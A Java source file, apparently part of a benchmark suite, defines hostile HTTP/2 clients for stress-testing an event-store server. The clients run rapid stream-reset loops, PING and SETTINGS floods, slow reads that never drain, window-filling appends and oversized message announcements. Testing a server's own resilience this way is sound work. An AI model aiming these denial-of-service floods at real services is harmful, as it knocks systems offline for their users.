// SPDX-License-Identifier: Apache-2.0

package io.leftfold.benchmarks.beside;

import io.leftfold.benchmarks.beside.Attack.Target;
import io.leftfold.protocol.messages.shared.Empty;
import io.leftfold.protocol.messages.shared.StreamIdentifier;
import io.leftfold.protocol.messages.shared.UUID;
import io.leftfold.protocol.messages.streams.BatchAppendReq;
import io.leftfold.protocol.messages.streams.ReadReq;
import java.io.IOException;
import java.nio.ByteBuffer;

/// Bad clients that know HTTP/2.
final class Http2Attacks {

  private static final String READ = "event_store.client.streams.Streams/Read";
  private static final String APPEND = "event_store.client.streams.Streams/Append";
  private static final String BATCH_APPEND = "event_store.client.streams.Streams/BatchAppend";
  private static final int WIDE = Integer.MAX_VALUE / 2;
  private static final int USUAL = 65_535;
  private static final int MANY = 200;
  private static final int FEW = 4;
  private static final int CALLS_OF_EACH = 2;
  private static final int MANY_CALLS_OF_EACH = 20;
  private static final int CANCEL = 8;
  private static final int ACK_BYTES = 8;
  private static final int HALF_BYTES = 15_000;

  /// Appends whose answers are more than a window and what waits for it, and then most of a window
  /// of 1 MiB.
  private static final int MESSAGES_OF_FRAME = 100;

  private static final int UNTAKEN_FRAMES = 25;
  private static final int FILLING_FRAMES = 7_000;
  private static final int FILLING_BYTES = 100;

  private Http2Attacks() {}

  /// Does something with a connection until it ends, and then with the next.
  interface Conduct {
    void with(BadPeer peer) throws IOException;
  }

  private static void keepConnecting(Target target, Tally tally, int count, Conduct conduct) {
    for (var i = 0; i < count; i++) {
      Thread.startVirtualThread(() -> {
        while (true) {
          try (var peer = new BadPeer(target.port())) {
            tally.count("connections");
            conduct.with(peer);
          } catch (IOException _) {
            tally.count("connections cut off");
          }
        }
      });
    }
  }

  private static ReadReq readOfAll(boolean subscription) {
    var empty = Empty.getDefaultInstance();
    var options =
        ReadReq.Options.newBuilder()
            .setAll(ReadReq.Options.AllOptions.newBuilder().setStart(empty))
            .setNoFilter(empty)
            .setUuidOption(ReadReq.Options.UUIDOption.newBuilder().setString(empty));
    if (subscription) {
      options.setSubscription(ReadReq.Options.SubscriptionOptions.getDefaultInstance());
    } else {
      options.setCount(Long.MAX_VALUE);
    }
    return ReadReq.newBuilder().setOptions(options).build();
  }

  /// Ask for everything, allow everything, take nothing.
  static void readSlowly(Target target, Tally tally) {
    askAndTakeNothing(target, tally, WIDE, MANY_CALLS_OF_EACH, false);
  }

  /// Subscribe to everything and take nothing.
  static void subscribeAndForget(Target target, Tally tally) {
    askAndTakeNothing(target, tally, USUAL, CALLS_OF_EACH, true);
  }

  private static void askAndTakeNothing(
      Target target, Tally tally, int window, int calls, boolean subscription) {
    keepConnecting(
        target,
        tally,
        MANY,
        peer -> {
          peer.open(window);
          for (var call = 0; call < calls; call++) {
            peer.call(2 * call + 1, READ, readOfAll(subscription));
            tally.count("calls");
          }
          HostileMain.doNothing();
        });
  }

  /// Begin calls and cancel them, as fast as can be.
  static void reset(Target target, Tally tally) {
    keepConnecting(
        target,
        tally,
        FEW,
        peer -> {
          peer.open(USUAL);
          drainAside(peer);
          for (var stream = 1; stream > 0; stream += 2) {
            peer.call(stream, READ);
            peer.frame(BadPeer.RST_STREAM, 0, stream, (byte) 0, (byte) 0, (byte) 0, (byte) CANCEL);
            tally.count("resets");
          }
        });
  }

  /// Ask for signs of life, as fast as can be.
  static void ping(Target target, Tally tally) {
    flood(target, tally, BadPeer.PING, new byte[ACK_BYTES], true);
  }

  /// The same, and take no answers.
  static void pingAndTakeNothing(Target target, Tally tally) {
    flood(target, tally, BadPeer.PING, new byte[ACK_BYTES], false);
  }

  /// Change settings, as fast as can be.
  static void changeSettings(Target target, Tally tally) {
    flood(target, tally, BadPeer.SETTINGS, new byte[0], true);
  }

  private static void flood(
      Target target, Tally tally, int type, byte[] payload, boolean takesAnswers) {
    keepConnecting(
        target,
        tally,
        FEW,
        peer -> {
          peer.open(USUAL);
          if (takesAnswers) {
            drainAside(peer);
          }
          while (true) {
            peer.frame(type, 0, 0, payload);
            tally.count("frames");
          }
        });
  }

  /// Sends no more, and comes again when the server has closed the connection.
  private static void awaitEnd(BadPeer peer) throws IOException {
    peer.flush();
    peer.drain();
    throw new IOException("closed");
  }

  private static void drainAside(BadPeer peer) {
    Thread.startVirtualThread(() -> {
      try {
        peer.drain();
      } catch (IOException _) {
        // Whoever sends notices too.
      }
    });
  }

  /// Announce a message of 2 GiB and send some of it.
  static void announceTooMuch(Target target, Tally tally) {
    announce(target, tally, Integer.MAX_VALUE);
  }

  /// Announce a message that may be, send some of it, and fall silent.
  static void sendHalves(Target target, Tally tally) {
    announce(target, tally, 16 << 20);
  }

  /// Append in batches, take no answers, and send on until the windows are full.
  static void fillWindows(Target target, Tally tally) {
    var refused = refusedAppends();
    var filling = new byte[FILLING_BYTES];
    keepConnecting(
        target,
        tally,
        MANY,
        peer -> {
          peer.open(USUAL);
          peer.frame(BadPeer.SETTINGS, BadPeer.ACK, 0);
          for (var stream = 1; stream < 2 * FEW; stream += 2) {
            peer.call(stream, BATCH_APPEND);
            for (var i = 0; i < UNTAKEN_FRAMES; i++) {
              peer.frame(BadPeer.DATA, 0, stream, refused);
            }
            for (var i = 0; i < FILLING_FRAMES; i++) {
              peer.frame(BadPeer.DATA, 0, stream, filling);
            }
            tally.count("calls");
          }
          awaitEnd(peer);
        });
  }

  /// Appends that are answered without being written, for their stream has no name.
  private static byte[] refusedAppends() {
    var append =
        BatchAppendReq.newBuilder()
            .setCorrelationId(UUID.newBuilder().setString(new java.util.UUID(1, 1).toString()))
            .setOptions(
                BatchAppendReq.Options.newBuilder()
                    .setStreamIdentifier(StreamIdentifier.getDefaultInstance())
                    .setAny(com.google.protobuf.Empty.getDefaultInstance()))
            .setIsFinal(true)
            .build()
            .toByteArray();
    var message = Integer.BYTES + 1 + append.length;
    var several = ByteBuffer.allocate(MESSAGES_OF_FRAME * message);
    for (var i = 0; i < MESSAGES_OF_FRAME; i++) {
      several.put((byte) 0).putInt(append.length).put(append);
    }
    return several.array();
  }

  private static void announce(Target target, Tally tally, int length) {
    var half = ByteBuffer.allocate(HALF_BYTES).put((byte) 0).putInt(length).array();
    keepConnecting(
        target,
        tally,
        MANY,
        peer -> {
          peer.open(USUAL);
          for (var call = 0; call < CALLS_OF_EACH; call++) {
            peer.call(2 * call + 1, APPEND);
            peer.frame(BadPeer.DATA, 0, 2 * call + 1, half);
            tally.count("calls");
          }
          awaitEnd(peer);
        });
  }
}
